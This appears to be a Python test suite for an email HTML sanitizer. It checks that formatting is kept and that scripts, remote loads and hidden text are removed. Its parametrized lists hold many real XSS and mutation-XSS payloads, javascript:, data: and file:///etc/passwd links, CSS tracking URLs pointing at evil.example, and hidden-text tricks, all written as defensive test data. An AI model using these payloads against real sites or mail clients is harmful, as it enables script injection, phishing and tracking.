"""HTML that is passed on: what was seen, in its form, and nothing that runs, loads or hides."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from samehand.ingest.html.body import read_html
from samehand.ingest.html.twin import LARGEST
from samehand.ingest.html.wall import ATTRIBUTES, TAGS, walled
from samehand.ingest.words import words

IMAGES = {"lamp@carla": "lamp.png"}
VOID = {"br", "hr", "img"}
GIVEN = {"a": {"rel"}}  # by the wall itself
VALUES = {
    "href": re.compile(r"(?:https?://|mailto:|tel:)[^\s\"'<>]*", re.IGNORECASE),
    "src": re.compile(r"cid:lamp@carla"),
    "style": re.compile(r"color:#[0-9a-f]{6}"),
    "dir": re.compile("ltr|rtl|auto"),
    "align": re.compile("left|right|center|justify"),
    "rel": re.compile("noopener noreferrer"),
    "type": re.compile("[1aAiI]"),
}


class Inspector(HTMLParser):
    """Takes a page apart, and knows what must not be there, and whether all is closed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.open: list[str] = []
        self.said = ""
        self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = {*ATTRIBUTES["*"], *ATTRIBUTES.get(tag, ()), *GIVEN.get(tag, ())}
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            form = VALUES.get(name, re.compile(r"[^<>\"]*"))
            if name not in allowed or not form.fullmatch(value or ""):
                self.wrong.append(f"<{tag} {name}={value!r}>")
        if tag not in VOID:
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.said += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append("<!---->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("<!>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append("<?>")


def inspected(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def safe(html: str) -> str:
    """What is passed on, once it has been looked over."""
    passed_on = read_html(html, IMAGES).html
    seen = inspected(passed_on)
    assert (seen.wrong, seen.open) == ([], [])
    return passed_on


@pytest.mark.parametrize(
    "html",
    [
        "<p>Hello <b>Carla</b>, <i>see</i> <u>this</u> <s>or that</s></p>",
        "<ul><li>one</li><li>two<ol><li>a</li></ol></li></ul>",
        '<ol start="3" type="a"><li>three</li></ol>',
        "<table><tbody><tr><th>Lamp</th><td>12</td></tr></tbody></table>",
        "<blockquote><p>old</p></blockquote><p>new</p>",
        "<pre>one\n  two</pre>",
        '<p>see <img src="cid:lamp@carla" alt="my lamp" width="300"></p>',
        '<p><span style="color:#c00000">urgent</span></p>',
        '<div dir="rtl">\u05e9\u05dc\u05d5\u05dd</div>',
        "<h2>Title</h2><hr><p>text</p>",
        "<p>2 &lt; 3 &amp; 4 &gt; 3</p>",
    ],
)
def test_form_that_carries_meaning_is_kept(html: str) -> None:
    assert safe(html) == html


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<a href="https://a.example/?a=1&b=2">x</a>', "https://a.example/?a=1&amp;b=2"),
        ('<a href="mailto:carla@customer.example">x</a>', "mailto:carla@customer.example"),
        ('<a href="tel:+34600000000">x</a>', "tel:+34600000000"),
        ('<a href=" HTTPS://a.example/%41%2e%3Cb">x</a>', "HTTPS://a.example/A.%3Cb"),
    ],
)
def test_links_lead_where_they_led(html: str, kept: str) -> None:
    assert safe(html) == f'<a href="{kept}" rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
        "vbscript:x",
        "data:text/html,<b>x</b>",
        "file:///etc/passwd",
        "//evil.example/x",
        "/inside",
        "cid:lamp@carla",
        "https:\\\\evil.example",
        "blob:https://a.example/x",
        "mhtml:https://a.example",
        "feed:javascript:alert(1)",
        "",
    ],
)
def test_what_is_no_link_to_elsewhere_is_only_its_words(href: str) -> None:
    assert safe(f'<a href="{href}">here</a>') == "here"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)//",
        '<img """><script>alert(1)</script>">',
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example/x.swf></object>",
        "<embed src=https://evil.example/x.swf>",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<style>@import 'https://evil.example/x.css';body{background:url(//evil.example)}</style>",
        "<div style='background:url(https://evil.example/pixel)'>x</div>",
        "<div style='background-image:\\75rl(https://evil.example/x)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<div style='behavior:url(#default#time2)'>x</div>",
        "<div style='color:red;background:url(x)'>x</div>",
        "<div style='color:rgb(200,0,0) url(x)'>x</div>",
        "<table background=https://evil.example/x><tr><td background=//evil.example>x</table>",
        "<body background=https://evil.example/x onload=alert(1)>x</body>",
        "<video src=//evil.example poster=//evil.example><source src=//evil.example></video>",
        "<audio autoplay src=//evil.example></audio>",
        "<picture><source srcset=//evil.example/x><img src=//evil.example/x></picture>",
        "<img srcset='//evil.example/x 2x' src=https://evil.example/x alt=cat>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img src='data:image/png;base64,iVBORw0KGgo=' alt=chart>",
        "<img src='cid:other@x\" onerror=alert(1) x=\"'>",
        "<img src=cid:lamp@carla alt='\"><script>alert(1)</script>'>",
        "<a href='https://a.example/\"onmouseover=alert(1)'>x</a>",
        "<a href='https://a.example' target=_blank onclick=alert(1) ping=//evil.example>x</a>",
        "<p id=x class=y name=z title=t data-x=1 contenteditable accesskey=x tabindex=1>x</p>",
        "<b onmouseover=alert(1) style=x>x</b><bgsound src=//evil.example>",
        "<!--[if mso]><p>office</p><![endif]--><!-- x --><?xml version=1?><!doctype html>x",
        "<template><script>x</script></template><slot name=x></slot><dialog open>x</dialog>",
        "<isindex action=x><keygen><menu><command><applet code=x></applet></menu>",
        "<plaintext><b>x",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea><script>alert(1)</script></textarea><title><script>x</script></title>",
        "<select><option>x<script>alert(1)</script></select>",
        "<a><a><a href=https://a.example>x</a></a></a>",
        "<b><p><i></b>x</p></i><table><b>x</table>",
        "<ol start=9999999999 type=z><li value=-1>x</ol><td colspan=99999>x",
        "<p dir=evil align='left;x'>x</p><ul type=disc><li>x",
        "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<p>\ud800 \ufffe \x1b[31m</p>",
    ],
)
def test_nothing_that_runs_or_loads_is_passed_on(hostile: str) -> None:
    passed_on = safe(f"<p>Hello</p>{hostile}")
    assert "Hello" in passed_on
    assert read_html(passed_on, IMAGES).html.split() == passed_on.split()


@pytest.mark.parametrize(
    ("html", "said"),
    [
        ('<img src="https://a.example/x.png" alt="A cat">', "[image: A cat]"),
        ('<img src="https://a.example/pixel.gif" width="1" height="1">', ""),
        ('<img src="https://a.example/open.gif" alt="">', ""),
        ('<img src="data:image/png;base64,aGk=" alt="A chart">', "[image: A chart]"),
        ('<a href="https://a.example"><img src="https://a.example/x.png"></a>', "[image]"),
        ('<img src="cid:unknown@x">', "[image]"),
    ],
)
def test_a_picture_that_did_not_come_along_is_words(html: str, said: str) -> None:
    assert inspected(safe(html)).said == said


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:red", ' style="color:#ff0000"'),
        ("color:#1F497D", ' style="color:#1f497d"'),
        ("color:black", ""),
        ("color:yellow", ""),
        ("color:#eee;background:#000", ""),
        ("color:rgba(255,0,0,.9)", ' style="color:#ff1919"'),
        ("color:nonsense", ""),
        ("font-size:40px;z-index:9", ""),
    ],
)
def test_a_colour_is_kept_where_it_can_be_read_on_white(style: str, kept: str) -> None:
    assert safe(f'<p style="{style}">x</p>') == f"<p{kept}>x</p>"


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<span style="font-weight:700">x</span>', "<b>x</b>"),
        ('<b style="font-weight:normal">x</b>', "x"),
        ('<span style="font-style:italic">x</span>', "<i>x</i>"),
        ('<span style="text-decoration:line-through">x</span>', "<s>x</s>"),
        ('<span style="display:block">x</span>y', "<div>x</div>y"),
        ('<p style="margin:0">x</p>', "<div>x</div>"),
        ('<center>x</center><font color="red">y</font>', 'align="center">x</div>'),
        ('<div style="white-space:pre-wrap">a  b\nc</div>', "<div>a&nbsp; b<br>c</div>"),
        ("<q>x</q>", "\u201cx\u201d"),
    ],
)
def test_what_a_style_means_is_said_by_tags(html: str, kept: str) -> None:
    assert kept in safe(html)


@pytest.mark.parametrize(
    "hidden",
    [
        "<p hidden>secret</p>",
        "<p style='display:none'>secret</p>",
        "<p style='font-size:0'>secret</p>",
        "<p style='color:#fff'>secret</p>",
        "<p style='color:#fefefe;background:#fff'>secret</p>",
        "<font color=white>secret</font>",
        "<p style='opacity:0'>secret</p>",
        "<p style='position:absolute;left:-9999px'>secret</p>",
        "<p style='max-height:0;overflow:hidden'>secret</p>",
        "<p style='visibility:hidden'>secret <img src=cid:lamp@carla></p>",
        "<p style='mso-hide:all'>secret</p>",
        "<!-- secret -->",
        "<noscript>secret</noscript><title>secret</title>",
        "<style>.x{display:none}</style><p class=x>secret</p>",
        "<style>.later .x{display:none}</style><p class=x>secret</p>",
        "<style>#y>p{font-size:0}</style><div id=y><p>secret</p></div>",
        "<table><tr style='display:none'><td>secret</td></tr></table>",
    ],
)
def test_what_no_reader_saw_is_not_passed_on(hidden: str) -> None:
    passed_on = safe(f"<p>Hello</p>{hidden}<p>again</p>")
    assert "secret" not in passed_on
    assert "cid:" not in passed_on
    assert words(inspected(passed_on).said) == "Helloagain"


@pytest.mark.parametrize(
    "tag", ["div", "b", "blockquote", "table><tr><td", "ul><li", "a href=x"]
)
@pytest.mark.parametrize("times", [200, 20_000])
def test_nesting_is_bounded(tag: str, times: int) -> None:
    assert inspected(safe(f"<{tag}>" * times + "words")).deepest < 200


def test_what_is_too_long_has_no_html() -> None:
    page = read_html("<p>word</p>" * (LARGEST // 8))
    assert page.html == ""
    assert page.text.startswith("word")


def test_the_second_wall_stands_alone() -> None:
    html = (
        "<p class=x onclick=y style='position:fixed;color:red'>a<script>x</script>"
        "<a href='javascript:x'>b</a><a href='cid:x'>c</a><img src='https://a.example/x'></p>"
    )
    assert walled(html) == (
        '<p style="color:red">a<a rel="noopener noreferrer">b</a>'
        '<a rel="noopener noreferrer">c</a><img></p>'
    )


_TAGS = """
    p div span b i a table tbody tr td th ul ol li blockquote pre h1 h3 br hr img font center
    form dl dd dt script style svg math select option title textarea q code o:p
"""
TAG_NAMES = _TAGS.split()
ATTRIBUTES_GIVEN = (
    ' href="https://a.example/x"',
    " href=javascript:x",
    ' src="cid:lamp@carla" alt="<x>"',
    ' src="https://a.example/p.png"',
    ' style="color:red"',
    ' style="white-space:pre"',
    ' style="display:block"',
    ' style="font-weight:bold"',
    ' class="gmail_signature"',
    ' style="border:none;border-left:solid blue 1.5pt;padding:0cm 0cm 0cm 4.0pt"',
    " onclick=x dir=rtl align=right colspan=2",
    "",
    "",
)
PIECES = st.one_of(
    st.builds("<{}{}>".format, st.sampled_from(TAG_NAMES), st.sampled_from(ATTRIBUTES_GIVEN)),
    st.builds("</{}>".format, st.sampled_from(TAG_NAMES)),
    st.sampled_from(["one", " two ", "\n", "&lt;b&gt;", "&nbsp;", "<", "\xad", "\u4e09"]),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_any_soup_becomes_safe_and_says_the_same(soup: str) -> None:
    page = read_html(soup, IMAGES)
    seen = inspected(page.html)
    assert (seen.wrong, seen.open) == ([], [])
    assert walled(page.html) == page.html, "a browser would make something else of it"
    assert words(read_html(page.html, IMAGES).text) == words(page.text)
